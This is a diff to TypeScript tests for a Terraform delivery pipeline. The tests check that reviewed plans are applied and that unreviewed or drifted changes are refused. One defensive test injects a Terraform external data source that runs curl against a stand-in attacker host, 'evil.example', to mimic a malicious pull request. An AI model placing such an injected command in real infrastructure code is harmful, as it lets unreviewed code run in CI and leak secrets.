@@ -1,7 +1,7 @@
 import type { Environment } from '../../environments/schema/environment';
 import { DeliveryError } from '../../delivery/model/delivery-error';
 import { deliver, propose } from '../../delivery/pipeline';
-import { fakeWorld, release, stack } from '../fakes/fake-world';
+import { digest, fakeWorld, release, stack } from '../fakes/fake-world';
 import { change } from '../fakes/scripted-terraform';
 
 /** An environment that only asks for an empty plan. */
@@ -42,7 +42,7 @@ test('only stacks that differ from what was verified there are applied again, wi
   const airflow = stack('dev-airflow', { dependencies: ['dev-network'] });
   const { world, environments } = fakeWorld({
     a1: [network, airflow, stack('dev-lake')],
-    b2: [{ ...network, digest: 'dev-network@2' }, airflow, stack('dev-lake')],
+    b2: [{ ...network, digest: digest('dev-network 2') }, airflow, stack('dev-lake')],
   });
   const environment = plain(environments[0]!);
   await deliver({ release: release('a1'), environment }, world);
@@ -99,15 +99,76 @@ test('a plan that is not empty after the apply leaves the release unverified', a
   expect(await ledger.entries('dev')).toMatchObject([{ state: 'failed' }]);
 });
 
-test('a proposal plans only the stacks it affects, in every environment, and comments', async () => {
+describe('a proposed change', () => {
   const lake = stack('dev-lake');
-  const { world, terraform, pullRequests } = fakeWorld({
-    main: [lake, stack('dev-warehouse'), stack('prod-warehouse')],
-    'head-of-bi': [lake, stack('dev-warehouse', { digest: '2' }), stack('prod-warehouse', { digest: '2' })],
+  const changed = (id: string) => stack(id, { digest: digest(`${id} 2`) });
+
+  /** A world where a pull request changes the warehouses of dev and prod, after both were delivered once. */
+  async function proposed() {
+    const fake = fakeWorld({
+      main: [lake, stack('dev-warehouse'), stack('prod-warehouse')],
+      'head-of-bi': [lake, changed('dev-warehouse'), changed('prod-warehouse')],
+      'merge-of-1': [lake, changed('dev-warehouse'), changed('prod-warehouse')],
+    });
+    const { world, terraform, pullRequests, reviews, environments } = fake;
+    await deliver({ release: release('main'), environment: plain(environments[0]!) }, world);
+    terraform.calls.length = 0;
+    terraform.will('dev-warehouse', change('update')).will('prod-warehouse', change('replace'));
+    const pull = await pullRequests.open({ branch: 'bi', base: 'main', title: 'Larger BI', body: '' });
+    reviews.pull(1, pull.head);
+    const shown = await propose(pull, world);
+    reviews.merged(1, await pullRequests.merge(1, pull.head));
+    return { ...fake, shown, dev: plain(environments[0]!), merged: release('merge-of-1') };
+  }
+
+  test('is planned in every environment, only where it changes something, and shown', async () => {
+    const { terraform, pullRequests, shown } = await proposed();
+    expect(terraform.calls.sort()).toEqual(['plan dev-warehouse', 'plan prod-warehouse']);
+    expect(shown.proposal).toMatchObject({ commit: 'head-of-bi', unaffected: 1 });
+    expect(await pullRequests.commentOn(1)).toMatch(/\*\*replaced\*\* in `prod-warehouse`/);
   });
-  terraform.will('dev-warehouse', change('update')).will('prod-warehouse', change('replace'));
-  const pull = await pullRequests.open({ branch: 'bi', base: 'main', title: 'Larger BI', body: '' });
-  await propose(pull, world);
-  expect(terraform.calls.sort()).toEqual(['plan dev-warehouse', 'plan prod-warehouse']);
-  expect(pullRequests.commentOn(1)).toContain('| prod-warehouse |  |  | 1 |  |');
+
+  test('is applied when its plans are still those that reviewers were shown', async () => {
+    const { world, dev, merged } = await proposed();
+    const outcome = await deliver({ release: merged, environment: dev }, world);
+    expect(outcome).toMatchObject({ kind: 'verified', applied: ['dev-warehouse'] });
+  });
+
+  test('is refused when somebody has changed the world since, and nothing is applied', async () => {
+    const { world, terraform, ledger, dev, merged } = await proposed();
+    terraform.will('dev-warehouse', change('update'), change('delete', 'snowflake_schema.RAW'));
+    const delivery = deliver({ release: merged, environment: dev }, world);
+    await expect(delivery).rejects.toMatchObject({
+      code: 'Refused',
+      message: expect.stringContaining('1 new delete') as string,
+    });
+    expect(terraform.calls).not.toContain('apply dev-warehouse');
+    expect((await ledger.entries('dev'))[0]).toMatchObject({ state: 'failed', release: merged });
+  });
+
+  test('is refused when nobody was shown its plans', async () => {
+    const { world, terraform, dev } = await proposed();
+    const unseen = { ...release('merge-of-1'), commit: 'pushed-past-everybody' };
+    world.source.checkout = () => Promise.resolve('merge-of-1');
+    await expect(deliver({ release: unseen, environment: dev }, world)).rejects.toMatchObject({
+      code: 'Refused',
+      message: expect.stringContaining('nobody reviewed a plan of dev-warehouse') as string,
+    });
+    expect(terraform.calls).not.toContain('apply dev-warehouse');
+  });
+
+  test('is not planned where Terraform would run what nobody has reviewed', async () => {
+    const { world, terraform, pullRequests } = fakeWorld({ main: [lake], 'head-of-bi': [changed('dev-lake')] });
+    const stolen = { external: { secrets: { program: ['curl', 'https://evil.example'] } } };
+    const configuration = world.synthesizer.configuration.bind(world.synthesizer);
+    world.synthesizer.configuration = async (one) =>
+      one.digest === lake.digest ? configuration(one) : { ...((await configuration(one)) as object), data: stolen };
+    const pull = await pullRequests.open({ branch: 'bi', base: 'main', title: 'x', body: '' });
+    const { proposal } = await propose(pull, world);
+    expect(terraform.calls).toEqual([]);
+    expect(proposal.environments[0]?.refusals[0]).toMatchObject({
+      rule: 'policy',
+      sentence: expect.stringContaining('dev-lake is not planned') as string,
+    });
+  });
 });
